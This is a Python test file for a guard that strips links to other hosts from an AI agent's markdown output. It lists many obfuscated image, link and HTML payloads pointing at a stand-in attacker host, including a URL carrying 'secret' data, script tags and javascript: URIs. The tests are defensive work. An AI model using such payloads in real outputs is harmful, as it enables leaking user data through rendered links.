"""No way to write a link makes a real renderer emit an address of another host."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from runtime.guard.links import Links, LinksGate, canonical, host
from runtime.guard.port import AgentType, Allow, Channel, Passage, Redact, well_formed
from tests.support import examples

EVIL = "evil.example"
LINKS = Links(frozenset({"docs.example.com"}))
LOADING = {"src", "srcset", "href", "xlink:href", "action", "formaction", "background", "data", "poster", "style"}


class Addresses(HTMLParser):
    """Collects every address in a page, and every tag that runs something."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found += [value or "" for name, value in attrs if name in LOADING or name.startswith("on")]
        if tag in {"script", "style", "iframe", "object", "embed", "meta", "base"}:
            self.found.append(f"//{tag}")


def foreign(markdown: str) -> list[str]:
    """The addresses of other hosts on the page that a permissive renderer makes of a text."""
    page = Addresses()
    page.feed(MarkdownIt("commonmark", {"html": True}).enable("table").render(markdown))
    plain = [canonical(address) for address in page.found]
    return [
        address
        for address in plain
        if (":" in address.split("/")[0].split("?")[0].split("#")[0] or address.replace("\\", "/").startswith("//"))
        and not address.startswith(("mailto:", "https://docs.example.com"))
    ]


VARIANTS = [
    f"![x](https://{EVIL}/a.png)",
    f"![x](http://{EVIL}/a.png?q=1 'title')",
    f'![x](https://{EVIL}/a.png "ti(t)le")',
    f"![x](//{EVIL}/a)",
    f"![x](/\\{EVIL}/a)",
    f"![x](\\\\{EVIL}\\a)",
    f"![x](<https://{EVIL}/a b>)",
    f"![x](\nhttps://{EVIL}/a\n)",
    f"![x](&#104;ttps://{EVIL}/a)",
    f"![x](https&colon;//{EVIL}/a)",
    f"![x](https\\://{EVIL}/a)",
    f"![x](&#x2f;&#x2f;{EVIL}/a)",
    f"![x](/&Tab;/{EVIL}/a)",
    f"![x](hTTps://{EVIL}/a(b)c)",
    f"![x](https:{EVIL}/a)",
    f"![x](https:/{EVIL}/a)",
    f"![x](https:\\\\{EVIL}/a)",
    f"![x][r]\n\n[r]: https://{EVIL}/a",
    f"![r]\n\n[r]: <//{EVIL}/a> 'title'",
    f"![r][]\n\n[r]:\n  &#104;ttps://{EVIL}/a",
    f"> ![r]\n>\n> [r]:\n> &#104;ttps://{EVIL}/a",
    f"[![x](https://{EVIL}/a)](https://{EVIL}/b)",
    f"[x](https://{EVIL}/a)",
    f"[x](https://docs.example.com@{EVIL}/a)",
    f"[x](https://{EVIL}\\@docs.example.com/a)",
    f"[x](https://{EVIL}#docs.example.com)",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt&colon;alert(1))",
    "[x](data:text/html,hi)",
    "[x](vbscript:a)",
    "![x](https://docs.example.com/a)",
    "![a\n![b] c](https://docs.example.com/a)",
    f"<https://{EVIL}/a>",
    f"<img src=https://{EVIL}/a>",
    f"<img src='//{EVIL}/a'>",
    f"<IMG/SRC=//{EVIL}/a>",
    f"<img\nsrc\n=\n//{EVIL}/a>",
    f"<img alt='>' src=//{EVIL}/a>",
    f'<img alt="<" src=//{EVIL}/a>',
    f"<img srcset='//{EVIL}/a 1x'>",
    f"<p style='background:url(//{EVIL}/a)'>",
    f"<p title='>' style='background:url(//{EVIL}/a)'>",
    f"<a href='&#104;ttps://{EVIL}'>x</a>",
    f"<a ping=//{EVIL} href=/x>x</a>",
    f"<iframe src=//{EVIL}></iframe>",
    f"<object data=//{EVIL}></object>",
    f"<embed src=//{EVIL}>",
    f"<video poster=//{EVIL}></video>",
    f"<svg><image xlink:href='//{EVIL}'/></svg>",
    f"<link rel=prefetch href=//{EVIL}>",
    f"<meta http-equiv=refresh content='0;url=//{EVIL}'>",
    f"<base href=//{EVIL}>",
    f"<form action=//{EVIL}><button formaction=//{EVIL}>x</button></form>",
    f"<style>@import '//{EVIL}/a';</style>",
    f"<script src=//{EVIL}></script>",
    "<p onclick=alert(1)>x</p>",
    f"<table background=//{EVIL}>",
    f"| a |\n| - |\n| ![x](https://{EVIL}) |",
    f"- item\n\n  ![x](https://{EVIL}/a)",
    f"[x]: https://{EVIL} (t)\n\n![x]",
]


@pytest.mark.parametrize("text", VARIANTS)
def test_every_variant_loses_its_address(text: str) -> None:
    left = LINKS.neutral(text)
    assert left != text
    assert foreign(left) == []
    assert LINKS.neutral(left) == left


def test_the_oracle_sees_what_it_is_made_for() -> None:
    assert (
        sum(bool(foreign(text)) for text in VARIANTS) >= 45
    )  # the others are refused by the renderer itself, or lead to the allowed host


@pytest.mark.parametrize(
    "text",
    [
        "[x](/docs/a) [y](#part) [z](a/b.html) ![plot](/files/plot.png) ![p](./p.png)",
        "[ok](https://docs.example.com/a?b=c#d) and https://docs.example.com/a",
        "a < b, List<String>, 3 // 4, C:\\dir, 12:30, std::vector, <b>bold</b>",
        "[1]: see below\n\n- [ ] to do\n- [x] done (really)",
        "",
    ],
)
def test_what_stays_on_our_host_or_is_allowed_stays(text: str) -> None:
    assert LINKS.neutral(text) == text


def test_the_host_is_shown_and_nothing_of_the_path() -> None:
    assert LINKS.neutral(f"![chart](https://{EVIL}/x?d=secret)") == f"![chart]⟦image: {EVIL}⟧"
    assert LINKS.neutral(f"see https://user:pw@{EVIL}:8080/secret.") == f"see ⟦link: {EVIL}⟧."
    assert LINKS.neutral("https://пример.example/") == "⟦link: xn--e1afmkfd.example⟧"


@pytest.mark.parametrize(
    ("address", "name"),
    [
        (f"https://a@{EVIL}/x", EVIL),
        (f"//{EVIL}", EVIL),
        ("https://[::1]/x", "::1"),
        ("https://[bad", ""),
        ("javascript:x", ""),
        ("https://" + "a" * 300 + ".example", ""),
    ],
)
def test_the_host_is_the_one_a_browser_would_ask(address: str, name: str) -> None:
    assert host(address) == name or (not name and len(host(address)) <= 80)


_PIECES = st.sampled_from(
    [
        *("![", "[", "]", "](", "]:", "(", ")", "<", ">", "<img ", "<a ", "src=", "href=", "'", '"', "\n", "\n\n", " "),
        *(
            "https://",
            "//",
            "http:",
            EVIL,
            "docs.example.com",
            "&#104;ttps",
            "&colon;",
            "javascript:",
            "data:",
            "x",
            "/",
        ),
        *("@", "#", "?", "url(", "www.", "> ", "<!--", "-->", "`", "```\n", "&#x2f;", "\t", "⟦", "⟧", "r", "\\"),
    ]
)


@given(text=st.lists(_PIECES, max_size=25).map("".join))
@examples(800)
def test_no_combination_of_pieces_leaves_an_address(text: str) -> None:
    assert well_formed(text, LINKS.spans(text))
    assert foreign(LINKS.neutral(text)) == []


@given(text=st.text(max_size=60))
@examples(200)
def test_any_text_is_looked_through(text: str) -> None:
    assert well_formed(text, LINKS.spans(text))


@pytest.mark.parametrize(
    "piece", ["](", "<a", "<a ", "![a](https://e.example)", "a:/", "](((", "]( ", "<a t='", "url("]
)
def test_long_hostile_text_takes_linear_time(piece: str) -> None:
    LINKS.spans(piece * (60_000 // len(piece)))


async def test_the_gate_redacts_or_allows() -> None:
    gate = LinksGate(LINKS)
    found = await gate.judge(Passage(f"![x](https://{EVIL})", Channel.OUTPUT, AgentType("a"), "s"))
    assert isinstance(found, Redact)
    assert await gate.judge(Passage("plain", Channel.OUTPUT, AgentType("a"), "s")) == Allow()
